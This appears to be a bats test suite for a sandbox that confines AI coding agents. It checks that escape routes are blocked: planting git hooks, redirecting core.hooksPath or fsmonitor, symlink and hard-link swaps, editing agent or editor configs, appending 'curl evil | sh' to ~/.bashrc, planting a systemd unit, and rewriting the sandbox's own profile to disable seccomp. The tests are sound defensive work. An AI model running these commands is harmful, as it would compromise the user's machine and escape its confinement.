#!/usr/bin/env bats
# Protected paths inside the writable project: git hooks and config (the classic way from an
# agent's sandbox to the user's shell: the next `git commit` on the host runs the hook),
# worktree and nested repositories, direnv, editor and agent configs.

load harden_helpers

setup_file() { attack_build; }

setup() {
	escape_setup
	git -C "$P" init -q
	printf '[submodule "x"]\n\tpath = x\n\turl = https://example.invalid/x\n' >"$P/.gitmodules"
	echo 'export A=1' >"$P/.envrc"
	mkdir -p "$P/.vscode" "$P/vendor/lib"
	echo '{}' >"$P/.vscode/settings.json"
	git -C "$P/vendor/lib" init -q
	CONFIG_BEFORE=$(cat "$P/.git/config")
}

teardown() { escape_teardown; }

git_config_unchanged() {
	[ "$(cat "$P/.git/config")" = "$CONFIG_BEFORE" ]
}

@test "[git-hooks] a pre-commit hook cannot be created" {
	attack write .git/hooks/pre-commit
	[[ "$(last)" == errno=E* ]]
	[ ! -e "$P/.git/hooks/pre-commit" ]
}

@test "[git-hooks missing] with no hooks directory, .git/hooks/x still cannot be created" {
	rm -rf "$P/.git/hooks"
	in_cell 'mkdir -p .git/hooks; ./attack write .git/hooks/post-checkout'
	[[ "$(last)" == errno=E* ]]
	[ ! -e "$P/.git/hooks/post-checkout" ]
	# the empty placeholder brig made for the run is gone again
	[ ! -e "$P/.git/hooks" ]
}

@test "[git-config core.hooksPath] git config cannot redirect hooks" {
	in_cell 'git config core.hooksPath /tmp/hooks'
	[ "$status" -ne 0 ]
	git_config_unchanged
}

@test "[git-config core.fsmonitor] the config cannot be appended to (fsmonitor runs on git status)" {
	in_cell 'printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" >>.git/config || echo refused'
	[[ "$output" == *refused* ]]
	git_config_unchanged
}

@test "[git-config rename] the config cannot be moved aside and replaced" {
	in_cell 'mv .git/config .git/config.old || echo refused1; rm -f .git/config || echo refused2'
	[[ "$output" == *refused1* ]]
	[[ "$output" == *refused2* ]]
	git_config_unchanged
	[ ! -e "$P/.git/config.old" ]
}

@test "[git-config symlink-swap] the config cannot be swapped for a symlink" {
	in_cell 'ln -sf /tmp/evil .git/config || echo refused'
	[[ "$output" == *refused* ]]
	[ ! -L "$P/.git/config" ]
	git_config_unchanged
}

@test "[git-config hardlink] a hard link to the config cannot be written through" {
	in_cell 'ln .git/config cfg || echo refused'
	[[ "$output" == *refused* ]]
	[ ! -e "$P/cfg" ]
	git_config_unchanged
}

@test "[git-info attributes] filter drivers cannot be added through .git/info" {
	attack write .git/info/attributes
	[[ "$(last)" == errno=E* ]]
	[ ! -e "$P/.git/info/attributes" ] || [ "$(grep -c pwned "$P/.git/info/attributes")" -eq 0 ]
}

@test "[gitmodules] submodule URLs and commands cannot be changed" {
	attack write .gitmodules
	[[ "$(last)" == errno=E* ]]
	[[ "$(cat "$P/.gitmodules")" != *pwned* ]]
}

@test "[git-worktree] the .git file of a worktree cannot be repointed" {
	git -C "$P" -c user.name=t -c user.email=t@t commit -q --allow-empty -m init
	git -C "$P" worktree add -q "$P/wt" 2>/dev/null
	local before
	before=$(cat "$P/wt/.git")
	in_cell 'echo "gitdir: /tmp/evil" >wt/.git || echo refused; ./attack write .git/worktrees/wt/hooks-x'
	[[ "$output" == *refused* ]]
	[ "$(cat "$P/wt/.git")" = "$before" ]
	CONFIG_BEFORE=$(cat "$P/.git/config")
}

@test "[nested-repo hooks] a repository inside the project gets the same protection" {
	attack write vendor/lib/.git/hooks/post-merge
	[[ "$(last)" == errno=E* ]]
	[ ! -e "$P/vendor/lib/.git/hooks/post-merge" ]
	in_cell 'git -C vendor/lib config core.hooksPath /tmp || echo refused'
	[[ "$output" == *refused* ]]
}

@test "[direnv] an existing .envrc cannot be changed" {
	attack write .envrc
	[[ "$(last)" == errno=E* ]]
	[ "$(cat "$P/.envrc")" = 'export A=1' ]
}

@test "[editor-config .vscode] tasks cannot be added to an existing .vscode" {
	attack write .vscode/tasks.json
	[[ "$(last)" == errno=E* ]]
	[ ! -e "$P/.vscode/tasks.json" ]
}

@test "[protected-dir created] a missing .cursor that the command creates is reported" {
	run "$BRIG" run -q --net none --direct -- sh -c 'mkdir .cursor && echo "{}" >.cursor/mcp.json'
	[[ "$output" == *".cursor"*"protected path"* ]]
	rm -rf "$P/.cursor"
}

@test "[agent-config .claude] agent hooks cannot be planted in .claude/settings.json" {
	in_cell 'mkdir -p .claude; ./attack write .claude/settings.json'
	[[ "$(last)" == errno=E* ]]
	[ ! -e "$P/.claude/settings.json" ]
}

@test "[protected-file created] a protected file that did not exist is reported when created" {
	run "$BRIG" run -q --net none --direct -- sh -c 'echo "{}" >.mcp.json'
	[[ "$output" == *".mcp.json"*"protected path"* ]]
	rm -f "$P/.mcp.json"
}

@test "[usability] git still works in a protected repository" {
	in_cell 'echo hi >f && git add f && git -c user.name=t -c user.email=t@t commit -q -m c && git log --oneline | wc -l'
	[ "$status" -eq 0 ]
	[ "$(last)" = 1 ]
	git_config_unchanged
}

# A profile that makes the whole home writable (pwrap-style): its start-up files stay read-only.
home_writable() {
	profile wh "[project]
dir = \"~/projects/okb\"
[network]
mode = \"none\"
[sandbox]
writable = [\"~\"]"
	BEFORE=$(outside_state)
}

@test "[shell-rc writable-home] with a writable home, ~/.bashrc still cannot be changed" {
	home_writable
	run "$BRIG" run -q --direct wh -- sh -c 'echo "curl evil | sh" >>"$HOME/.bashrc" || echo refused; echo x >"$HOME/scratch" && echo home-writable'
	[[ "$output" == *refused* ]]
	[[ "$output" == *home-writable* ]]
	[ "$(cat "$HOME/.bashrc")" = bashrc ]
	rm -f "$HOME/scratch"
}

@test "[autostart writable-home] with a writable home, a systemd user unit cannot be planted" {
	home_writable
	run "$BRIG" run -q --direct wh -- sh -c 'mkdir -p "$HOME/.config/systemd/user" && echo "[Service]" >"$HOME/.config/systemd/user/evil.service" || echo refused'
	[[ "$output" == *refused* ]]
	[ ! -e "$HOME/.config/systemd" ]
}

@test "[own-policy writable-home] with a writable home, the cell cannot rewrite its own profile" {
	home_writable
	local before
	before=$(cat "$XDG_CONFIG_HOME/brig/wh/project.toml")
	run "$BRIG" run -q --direct wh -- sh -c 'printf "[seccomp]\nenabled = false\n" >>"$HOME/.config/brig/wh/project.toml" || echo refused'
	[[ "$output" == *refused* ]] || [ "$status" -ne 0 ]
	[ "$(cat "$XDG_CONFIG_HOME/brig/wh/project.toml")" = "$before" ]
}
